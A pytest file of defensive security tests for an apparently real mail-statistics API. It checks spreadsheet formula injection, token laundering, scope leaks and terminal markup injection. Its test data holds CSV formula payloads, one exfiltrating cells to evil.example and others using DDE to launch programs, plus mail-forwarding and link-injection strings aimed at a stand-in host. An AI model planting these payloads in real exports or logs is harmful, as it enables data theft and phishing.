"""An attacker's chains through the HTTP API, second round (session 15).

Like ``test_attack_chains.py``: one attacker holds ONE account of Acme and
chains calls; a passing test is a defence that holds, a strict xfail a hole
left open (with the SPEC rule it breaks).  This round looks at what reaches
*another person's* tools (the snapshot CSV a company admin or the provider's
operator opens in a spreadsheet, the operator's terminal), at what a role
holder's scope shows after an account moves out of it, and at tokens and
links that outlive the rights they were made with (exchanged for sessions,
made before an alias or a grant).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

import mailtally.api.service as service_module
from conftest import NOW, OPERATOR_CREDS, PW, as_user, cheap_config, failed, make_call, ok
from mailtally.api import create_app
from mailtally.cli import main
from mailtally.periods import FixedClock
from mailtally.store import open_store
from snapshots import download, link, refused, rows
from test_tokens import session, token_of

ADMIN = as_user("admin@acme.com")
DADMIN = as_user("dadmin@acme.net")  # domain admin of acme.net
LEAD = as_user("lead@acme.com")
OADMIN = as_user("oadmin@other.com")  # workgroup admin of acme.com/sales
T = "2026-01-14T10:00:00Z"  # the day of NOW


def _login(user: str) -> dict[str, Any]:
    return {"time": T, "kind": "login", "user": user, "service": "imap4"}


def _made(call, maker: dict[str, str], user: str, kind: str = "oma") -> str:
    """The string of a ``kind`` token ``maker`` makes for ``user`` (generate_token)."""
    answer = call("generate_token", credentials=maker, user=user, reason="x", type=kind, oma=True)
    return str(ok(answer)["token"])


# -- the snapshot CSV opened in a spreadsheet ----------------------------------------------
#: names a domain admin may give (a valid address's local part may begin with
#: ``=``, ``+`` or ``-``; a workgroup is any text without controls or ``/``)
FORMULA_WORKGROUP = '=HYPERLINK("http:evil.example?"&A2&B2,"details")'
FORMULA_USERS = ("=cmd|'-ccalc'!a0@acme.net", "+1+cmd|'x'!a0@acme.net", "-1+x@acme.net")
FORMULA_START = tuple("=+-@\t\r")


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: beginning like a formula, not a number."""
    cells = (c for r in csv.reader(io.StringIO(text, newline="")) for c in r)
    return [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("-").isdigit()]


def test_names_a_domain_admin_chose_are_not_formulas_in_anothers_snapshot(
    platform, call, client: TestClient
):
    """A domain admin names a workgroup and accounts like formulas; its company
    admin and the provider's operator download snapshots of the company and of
    the domain (``stats_snapshot``) and open them in a spreadsheet: no cell may
    run (``=HYPERLINK(…&A2&B2)`` sends the neighbouring cells away when
    clicked, ``=cmd|…`` is DDE).  Found in session 15: every such name was
    written as it is."""
    ok(call("create_workgroup", credentials=DADMIN, domain="acme.net", workgroup=FORMULA_WORKGROUP))
    for user in FORMULA_USERS:
        attrs = {"password": PW, "workgroup": FORMULA_WORKGROUP}
        ok(call("change_user", credentials=DADMIN, user=user, attributes=attrs))
    ok(call("ingest_events", batch_id="a", events=[_login(u) for u in FORMULA_USERS]))
    for maker in (ADMIN, None):  # the company admin, the operator
        for what in (
            {"type": "company", "object": "Acme"},
            {"type": "domain", "object": "acme.net"},
        ):
            for date in ("2026-01", "20260114"):
                creds = {} if maker is None else {"credentials": maker}
                answer = ok(call("stats_snapshot", date=date, **what, **creds))
                text = download(client, answer["snapshot"])
                assert _formula_cells(text) == [], (what, date)
                got = {r["address"]: r for r in rows(text)}
                # each name is all there, kept as text behind one quote
                for user in FORMULA_USERS:
                    assert got["'" + user]["workgroup"] == "'" + FORMULA_WORKGROUP
                    assert got["'" + user]["domain"] == "acme.net"
                    if date == "20260114":
                        assert got["'" + user]["logins.imap4"] == "1"
                assert got["carol@acme.net"]["workgroup"] == "staff"  # (others as they were)


def test_a_negative_count_in_a_snapshot_stays_a_number(platform, call, client: TestClient):
    """The ``unattributed`` row may hold negative counts (an account renamed
    into the domain since): those are numbers, not formulas, and stay as they are."""
    ok(call("ingest_events", batch_id="a", events=[_login("carol@acme.net")]))
    ok(call("rename_user", credentials=ADMIN, user="carol@acme.net", new_name="carol@acme.com"))
    text = download(client, link(call, ADMIN, type="domain", object="acme.com", date="20260114"))
    rest = [r for r in rows(text) if r["account_type"] == "unattributed"]
    assert [r["logins.imap4"] for r in rest] == ["-1"]
    assert _formula_cells(text) == []


@pytest.mark.parametrize("end", ["demoted", "deleted"])
def test_a_snapshot_link_ends_with_its_makers_right_to_read(platform, call, client, end):
    """dadmin makes a link to acme.net's CSV (a bearer secret for 15 minutes);
    its role is taken away, or it is deleted: the link stops at once (HTTP 404,
    error 2, saying why), as the tokens it made do; a link the company admin
    makes still works.  Before session 15 it kept working for its 15 minutes."""
    url = link(call, DADMIN, type="domain", object="acme.net", date="20260114")
    assert download(client, url)
    if end == "demoted":
        ok(call("set_role", credentials=ADMIN, user="dadmin@acme.net", role="", object=""))
    else:
        ok(call("delete_user", credentials=ADMIN, user="dadmin@acme.net"))
    body = refused(client, url)
    assert "may no longer read" in body["error"], body
    assert download(client, link(call, ADMIN, type="domain", object="acme.net", date="20260114"))


# -- an account moved out of a role holder's scope -------------------------------------
def test_a_domain_snapshot_does_not_follow_an_account_renamed_out_of_the_domain(
    platform, call, client
):
    """carol (acme.net) is renamed into acme.com: the acme.net admin's snapshot
    of today, when carol was counted in acme.net, shows neither her new name
    nor a row of hers (her counts stay in the domain as ``unattributed``)."""
    ok(call("ingest_events", batch_id="a", events=[_login("carol@acme.net")]))
    ok(
        call(
            "rename_user",
            credentials=ADMIN,
            user="carol@acme.net",
            new_name="secret-carol@acme.com",
        )
    )
    text = download(client, link(call, DADMIN, type="domain", object="acme.net", date="20260114"))
    assert "secret-carol" not in text
    rest = [r for r in rows(text) if r["account_type"] == "unattributed"]
    assert [(r["address"], r["logins.imap4"]) for r in rest] == [("", "1")]


def test_a_workgroup_admin_loses_an_account_moved_to_another_workgroup_at_once(platform, call):
    """lead (admin of acme.com/sales) has read alice's summary (cached) and her
    account; alice moves to another workgroup: lead reads nothing of hers."""
    ok(call("ingest_events", batch_id="a", events=[_login("alice@acme.com")]))
    ok(call("stats_summary", credentials=LEAD, type="user", object="alice@acme.com"))
    ok(call("get_user", credentials=LEAD, user="alice@acme.com"))
    ok(call("create_workgroup", credentials=ADMIN, domain="acme.com", workgroup="other"))
    ok(
        call(
            "change_user",
            credentials=ADMIN,
            user="alice@acme.com",
            attributes={"workgroup": "other"},
        )
    )
    failed(call("stats_summary", credentials=LEAD, type="user", object="alice@acme.com"), 2)
    failed(call("get_user", credentials=LEAD, user="alice@acme.com"), 2)
    failed(call("get_user_changes", credentials=LEAD, user="alice@acme.com"), 2)


def test_a_top_of_a_domain_does_not_follow_an_account_renamed_out(platform, call):
    """stats_top of acme.net lists carol while she is there; renamed into
    acme.com, her new name is not in the acme.net admin's top, for the day or
    the month in which she was counted there."""
    ok(call("ingest_events", batch_id="a", events=[_login("carol@acme.net")]))
    top = {"type": "domain", "object": "acme.net", "of": "users", "metric": "logins.imap4"}
    got = ok(call("stats_top", credentials=DADMIN, **top))["top"]
    assert got == [{"name": "carol@acme.net", "value": 1}]
    ok(call("rename_user", credentials=ADMIN, user="carol@acme.net", new_name="secret@acme.com"))
    for by in ("day", "month"):
        assert ok(call("stats_top", credentials=DADMIN, by=by, **top))["top"] == []


def test_an_alias_in_a_deleted_domain_does_not_reach_the_tenant_that_takes_the_name(platform, call):
    """alice@acme.com has an alias x@spare.com; Acme may not delete spare.com
    while it holds it.  With alice deleted it may; Other takes spare.com and
    makes x@spare.com; Acme restores alice: she comes back without the alias,
    and Acme counts nothing for Other's x@spare.com, nor Other for alice."""
    aliases = {"aliases": ["al@acme.net", "x@spare.com"]}
    ok(call("change_domain", credentials=ADMIN, domain="spare.com"))
    ok(call("change_user", credentials=ADMIN, user="alice@acme.com", attributes=aliases))
    failed(call("delete_domain", credentials=ADMIN, domain="spare.com"), 4)
    ok(call("delete_user", credentials=ADMIN, user="alice@acme.com"))
    ok(call("delete_domain", credentials=ADMIN, domain="spare.com"))
    ok(call("change_domain", credentials=OADMIN, domain="spare.com"))
    ok(call("change_user", credentials=OADMIN, user="x@spare.com", attributes={"password": PW}))
    ok(call("restore_user", credentials=ADMIN, user="alice@acme.com"))
    alice = ok(call("get_user", credentials=ADMIN, user="alice@acme.com"))
    assert alice["attributes"]["aliases"] == ["al@acme.net"]
    assert (
        ok(call("get_user", credentials=OADMIN, user="x@spare.com"))["attributes"]["aliases"] == []
    )
    event = [{"time": T, "kind": "message_in", "user": "x@spare.com", "size": 1, "spam": False}]
    failed(call("ingest_events", credentials=ADMIN, batch_id="a", events=event), 6)
    ok(call("ingest_events", credentials=OADMIN, batch_id="a", events=event))
    today = ok(call("stats_summary", credentials=ADMIN, type="user", object="alice@acme.com"))
    assert today["summary"]["20260114"]["messages"]["in_ham"] == ""


# -- tokens -----------------------------------------------------------------------------
def test_delete_then_create_the_same_name_brings_no_token_back(platform, call):
    """bob holds a session token, an admin-made ``oma`` token and an unspent
    ``sso``; he is deleted and his name made again with a new password (which
    reaches the deleted account, test_attack_chains): none of the old tokens,
    nor the old password, works."""
    bob = as_user("bob@acme.com")
    tok = session(call, bob)
    made, sso = _made(call, ADMIN, "bob@acme.com"), _made(call, ADMIN, "bob@acme.com", "sso")
    ok(call("delete_user", credentials=ADMIN, user="bob@acme.com"))
    ok(
        call(
            "change_user",
            credentials=ADMIN,
            user="bob@acme.com",
            attributes={"password": "new-bob-pw-1"},
        )
    )
    for t in (tok["token"], made, sso):
        failed(call("get_user", credentials=token_of("bob@acme.com", t), user="bob@acme.com"), 1)
    failed(call("get_user", credentials=bob, user="bob@acme.com"), 1)


def _carol(call, creds: dict[str, str]) -> dict[str, Any]:
    return call("get_user", credentials=creds, user="carol@acme.net")


def _laundered(call, kind: str) -> tuple[dict[str, str], dict[str, str]]:
    """dadmin makes a ``kind`` token for carol (allowed: she holds no role),
    exchanges it at once for a session token of a day, and renews that one the
    same way: (the session, the renewed session)."""
    made = _made(call, DADMIN, "carol@acme.net", kind)
    first = ok(
        call(
            "authenticate",
            credentials=token_of("carol@acme.net", made),
            generate_session_token=True,
            session_token_duration=86400,
        )
    )["session_token"]
    renewed = ok(
        call(
            "authenticate",
            credentials=token_of("carol@acme.net", first),
            generate_session_token=True,
        )
    )["session_token"]
    return token_of("carol@acme.net", first), token_of("carol@acme.net", renewed)


@pytest.mark.parametrize("end", ["demoted", "deleted", "target promoted"])
def test_a_token_made_by_an_admin_is_not_laundered_into_a_session(platform, call, end):
    """Tokens an admin made go when it loses the rights it made them with, or
    when the account is granted a role (session 13, migration 0016).  Found in
    session 15: exchanged through ``authenticate`` for a session token (an
    ``sso`` is meant for that, an ``oma`` or ``session`` token works too) and
    renewed the same way, they became the account's own session tokens and
    outlived the change: two calls kept a demoted or deleted domain admin's
    power over carol, for as long as it kept renewing.  The sessions now name
    the same maker, and go with it."""
    carol = as_user("carol@acme.net")
    own = session(call, carol)  # carol's own session: hers, not dadmin's
    laundered = [t for kind in ("oma", "sso", "session") for t in _laundered(call, kind)]
    for creds in laundered:
        ok(_carol(call, creds))  # (and now cached)
    if end == "demoted":
        ok(call("set_role", credentials=ADMIN, user="dadmin@acme.net", role="", object=""))
    elif end == "deleted":
        ok(call("delete_user", credentials=ADMIN, user="dadmin@acme.net"))
    else:  # carol becomes a company admin: dadmin's rights never covered that
        ok(
            call(
                "set_role", credentials=ADMIN, user="carol@acme.net", role="company", object="Acme"
            )
        )
    for creds in laundered:
        failed(_carol(call, creds), 1)
    ok(_carol(call, own))
    # a session carol makes from her own session is hers still
    again = ok(call("authenticate", credentials=own, generate_session_token=True))
    ok(_carol(call, token_of("carol@acme.net", again["session_token"])))


def test_a_laundered_session_ends_on_another_process_too(platform, call, fresh_store, monkeypatch):
    """The sessions of the test above, cached by a second API process whose
    tree poll is held back: dadmin's demotion on the first ends them there at
    once as well (the names' credential versions move with the drop)."""
    laundered = [t for kind in ("oma", "sso") for t in _laundered(call, kind)]
    monkeypatch.setattr(service_module, "POLL_SECONDS", 3600.0)
    other_store = open_store(fresh_store.url)
    try:
        with TestClient(create_app(other_store, cheap_config(), FixedClock(NOW))) as other:
            call2 = make_call(other, OPERATOR_CREDS)
            for creds in laundered:
                ok(_carol(call2, creds))  # (now cached there)
            ok(call("set_role", credentials=ADMIN, user="dadmin@acme.net", role="", object=""))
            for creds in laundered:
                failed(_carol(call2, creds), 1)
    finally:
        other_store.close()


def test_a_token_made_before_an_alias_elsewhere_does_not_change_the_account(platform, call):
    """dadmin makes a token for carol (and exchanges one for a session); the
    company admin then gives carol an alias in acme.com, a domain dadmin does
    not manage: dadmin may no longer change her (test_isolation_escalation),
    and the tokens it made must not let it either — set her forwarding (and so
    receive ceo@acme.com's mail) or her password.  Found in session 15: both
    worked through the token."""
    made = _made(call, DADMIN, "carol@acme.net")
    tokens = [token_of("carol@acme.net", made), *_laundered(call, "oma")]
    own = session(call, as_user("carol@acme.net"))
    aliases = {"aliases": ["ceo@acme.com"]}
    ok(call("change_user", credentials=ADMIN, user="carol@acme.net", attributes=aliases))
    forward = {"forward_recipients": ["d@evil.example"], "delivery_forward": True}
    failed(call("change_user", credentials=DADMIN, user="carol@acme.net", attributes=forward), 4)
    for creds in tokens:
        failed(call("change_user", credentials=creds, user="carol@acme.net", attributes=forward), 1)
        failed(_carol(call, creds), 1)
    attrs = ok(call("get_user", credentials=ADMIN, user="carol@acme.net"))["attributes"]
    assert attrs["forward_recipients"] == [] and attrs["delivery_forward"] is False
    ok(_carol(call, own))  # carol's own session stays
    # an alias taken away, or a change that adds none, leaves tokens as they are
    by_admin = token_of("carol@acme.net", _made(call, ADMIN, "carol@acme.net"))
    ok(call("change_user", credentials=ADMIN, user="carol@acme.net", attributes={"quota": 5}))
    ok(call("change_user", credentials=ADMIN, user="carol@acme.net", attributes={"aliases": []}))
    ok(_carol(call, by_admin))


def _dadmin_sets_carols_password(call, password: str = "dadmin-knows-this-1") -> dict[str, str]:
    """dadmin sets carol's password (allowed: she holds no role); the credentials it now knows."""
    ok(call("change_user", credentials=DADMIN, user="carol@acme.net",
            attributes={"password": password}))  # fmt: skip
    return as_user("carol@acme.net", password)


def test_a_password_a_domain_admin_set_does_not_become_a_company_admins(platform, call):
    """dadmin sets carol's password and keeps it (and opens a session with it);
    later the company admin makes carol a company admin.  The tokens dadmin
    made for her go with the grant (session 13); the password it chose, and
    every session opened with it, must go too, or dadmin logs in as a company
    admin (rule 1; found in session 15).  The grantor then gives carol a
    password of its own and she signs in as the company admin she now is."""
    known = _dadmin_sets_carols_password(call)
    opened = session(call, known)
    ok(call("set_role", credentials=ADMIN, user="carol@acme.net", role="company", object="Acme"))
    for creds in (known, opened):
        failed(call("get_user", credentials=creds, user="bob@acme.com"), 1)
    changes = ok(call("get_user_changes", credentials=ADMIN, user="carol@acme.net"))
    grant = changes["changes"][0]
    assert grant["method"] == "set_role" and grant["changes"]["password"] == "(ended)", grant
    ok(call("change_user", credentials=ADMIN, user="carol@acme.net",
            attributes={"password": "the-grantors-choice-2"}))  # fmt: skip
    ok(call("get_user", credentials=as_user("carol@acme.net", "the-grantors-choice-2"),
            user="bob@acme.com"))  # fmt: skip


def test_a_password_an_admin_set_for_a_new_account_ends_with_a_grant_beyond_it(platform, call):
    """The same through the account's creation: dadmin creates dave with a
    password it chose, the company admin grants dave a company role."""
    ok(call("change_user", credentials=DADMIN, user="dave@acme.net", create_only=True,
            attributes={"password": "dadmin-made-dave-1"}))  # fmt: skip
    dave = as_user("dave@acme.net", "dadmin-made-dave-1")
    ok(call("get_user", credentials=dave, user="dave@acme.net"))
    ok(call("set_role", credentials=ADMIN, user="dave@acme.net", role="company_ro", object="Acme"))
    failed(call("get_user", credentials=dave, user="dave@acme.net"), 1)


def test_a_password_an_admin_set_ends_with_an_alias_beyond_it(platform, call):
    """An alias in acme.com puts carol beyond dadmin's rights (as a role does,
    test_a_token_made_before_an_alias_elsewhere_does_not_change_the_account):
    the password dadmin chose for her ends with it."""
    known = _dadmin_sets_carols_password(call)
    aliases = {"aliases": ["ceo@acme.com"]}
    ok(call("change_user", credentials=ADMIN, user="carol@acme.net", attributes=aliases))
    failed(_carol(call, known), 1)
    change = ok(call("get_user_changes", credentials=ADMIN, user="carol@acme.net"))["changes"][0]
    assert change["changes"] == {"aliases": ["ceo@acme.com"], "password": "(ended)"}, change


@pytest.mark.parametrize(
    "who_chose",
    ["the grantor", "carol herself, after dadmin", "an operator"],
)
def test_a_password_the_grants_reach_covers_stays(platform, call, operator, who_chose):
    """A password chosen by the grantor, by the account itself (after an admin
    had set one) or by an operator is nobody else's: a grant leaves it."""
    password = "carols-own-choice-3"
    if who_chose == "the grantor":
        setter = ADMIN
    elif who_chose == "an operator":
        setter = OPERATOR_CREDS
    else:
        _dadmin_sets_carols_password(call)
        setter = as_user("carol@acme.net", "dadmin-knows-this-1")
    ok(call("change_user", credentials=setter, user="carol@acme.net",
            attributes={"password": password}))  # fmt: skip
    mine = as_user("carol@acme.net", password)
    ok(call("set_role", credentials=ADMIN, user="carol@acme.net", role="company", object="Acme"))
    ok(call("get_user", credentials=mine, user="bob@acme.com"))


def test_a_grant_inside_the_setters_rights_leaves_its_password(platform, call):
    """dadmin may still manage carol as a fellow admin of acme.net (rule 1: her
    roles lie inside its rights), so the password it chose stays hers."""
    known = _dadmin_sets_carols_password(call)
    ok(call("set_role", credentials=ADMIN, user="carol@acme.net", role="domain", object="acme.net"))
    ok(_carol(call, known))


def test_a_password_whose_setter_lost_its_rights_ends_with_the_next_grant(platform, call):
    """dadmin set carol's password, then lost its role: with carol's next grant
    (even one the old dadmin would have covered) the password ends."""
    known = _dadmin_sets_carols_password(call)
    ok(call("set_role", credentials=ADMIN, user="dadmin@acme.net", role="", object=""))
    ok(call("set_role", credentials=ADMIN, user="carol@acme.net", role="domain", object="acme.net"))
    failed(_carol(call, known), 1)


@pytest.mark.xfail(
    strict=True,
    reason="SPEC §2 rule 2 (not fixed, session 15): events are counted to the account that "
    "holds the address when they are recorded, not to the one that held it at their time",
)
def test_late_events_of_a_name_another_tenant_took_are_not_the_new_tenants(platform, call, clock):
    """Acme's x@spare.com logs in at 12:05; at 12:10 Acme has deleted it and its
    domain, and Other has taken spare.com and made its own x@spare.com.  The
    12:05 login reaches mailtally later (a log read every few minutes, a
    rotated file read late, a backfill of last month's logs): it is counted to
    Other's account, created after it, and Other's admin reads when Acme's user
    logged in (``last_imap4`` 12:05, before its own account existed).  The
    same holds inside a tenant for a name renamed away and made again.  (A fix:
    resolve an address as of the event's time — the accounts' versions hold
    their aliases, their createtime and deletetime when they began and ended.)"""
    ok(call("change_domain", credentials=ADMIN, domain="spare.com"))
    ok(call("change_user", credentials=ADMIN, user="x@spare.com", attributes={"password": PW}))
    clock.value += 600
    ok(call("delete_user", credentials=ADMIN, user="x@spare.com"))
    ok(call("delete_domain", credentials=ADMIN, domain="spare.com"))
    ok(call("change_domain", credentials=OADMIN, domain="spare.com"))
    ok(call("change_user", credentials=OADMIN, user="x@spare.com", attributes={"password": PW}))
    late = {
        "time": "2026-01-14T12:05:00Z",
        "kind": "login",
        "user": "x@spare.com",
        "service": "imap4",
    }
    call("ingest_events", batch_id="late", events=[late])  # (the operator: any tenant's)
    day = ok(call("stats_summary", credentials=OADMIN, type="user", object="x@spare.com"))
    logins = day["summary"]["20260114"]["logins"]
    assert (logins["imap4"], logins["last_imap4"]) == ("", ""), logins


# -- the ops endpoints ------------------------------------------------------------------
def test_the_ops_endpoints_name_no_tenant(platform, call, client: TestClient):
    """After calls naming both tenants' objects (good, refused, with a made-up
    path and a made-up snapshot link), ``/metrics``, ``/healthz`` and
    ``/readyz`` (no credentials) hold none of the names: their labels are the
    methods' and outcomes' only (``other``: a path of no method)."""
    call("get_user", credentials=ADMIN, user="bob@acme.com")
    call("get_user", credentials=as_user("zed@other.com", "wrong"), user="carol@acme.net")
    call("stats_summary", credentials=OADMIN, type="domain", object="acme.net")
    client.post("/api/acme.net-probe", json={"credentials": {"user": "dadmin@acme.net"}})
    client.get("/api/snapshot/" + "A" * 43)
    for path in ("/metrics", "/healthz", "/readyz"):
        r = client.get(path)
        assert r.status_code == 200, (path, r.text)
        text = r.text.lower()
        for name in ("acme", "other.com", "bob", "carol", "zed", "dadmin", "probe"):
            assert name not in text, (path, name)


# -- a log writer and the operator's terminal -------------------------------------------
def test_a_log_line_is_not_markup_in_the_ingest_report(tmp_path, monkeypatch):
    """Anyone on a mail server writes log lines (``logger -t x '[/x]'``); the
    lines ``mailtally ingest`` does not understand are shown to the operator
    with a sample.  Found in session 15: the sample was read as Rich markup, so
    ``[/x]`` ended the report with a traceback and exit status 1 (after the
    counts were committed: a cron job failing on every run), and
    ``[link=…]…[/link]`` or ``[bold red]…[/]`` put a link or a forged alert in
    the operator's terminal."""
    for var in ("MAILTALLY_DB", "MAILTALLY_CONFIG"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("COLUMNS", "300")  # (a table cell wraps a long sample)
    db = f"sqlite:///{tmp_path / 's.sqlite3'}"
    log = tmp_path / "mail.log"
    lines = (
        "Nov 30 10:00:01 mx1 otherprog[14]: [/x] hello",
        "Nov 30 10:00:02 mx1 [bold]prog[/bold][15]: [link=https://evil.example]repair[/link]",
        "Nov 30 10:00:03 mx1 thirdprog[16]: [bold red]STORE CORRUPT[/]",
    )
    log.write_text("".join(line + "\n" for line in lines))
    runner = CliRunner()
    assert runner.invoke(main, ["migrate", "--db", db]).exit_code == 0
    res = runner.invoke(main, ["ingest", "--db", db, "--quiet", str(log)])
    assert res.exit_code == 0, res.output
    out = res.output
    for shown in ("[/x] hello", "[link=https://evil.example]", "[bold red]STORE CORRUPT[/]"):
        assert shown in out, (shown, res.output)
